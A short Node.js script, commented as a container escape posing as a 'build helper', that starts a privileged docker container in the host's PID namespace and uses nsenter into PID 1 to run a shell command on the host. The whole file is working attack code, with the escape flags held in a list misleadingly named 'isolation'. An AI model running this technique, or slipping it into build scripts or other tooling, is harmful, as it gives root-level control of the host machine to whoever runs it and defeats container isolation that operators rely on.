// Escapes to the host through docker: a "build helper" starts a privileged container
// in the host's PID namespace with spawn(); the flags come from a named list spread
// into the argument list, and nsenter into PID 1 then runs a shell on the host.
const { spawn } = require('child_process');

const isolation = ['--privileged', '--pid=host'];
const inner = ['nsenter', '-t', '1', '-m', '-u', '-i', '-n', 'sh', '-c', 'id > /tmp/.o'];
spawn('docker', ['run', '--rm', ...isolation, 'alpine', ...inner], { stdio: 'inherit' }).on(
  'exit',
  (c) => process.exit(c ?? 0),
);
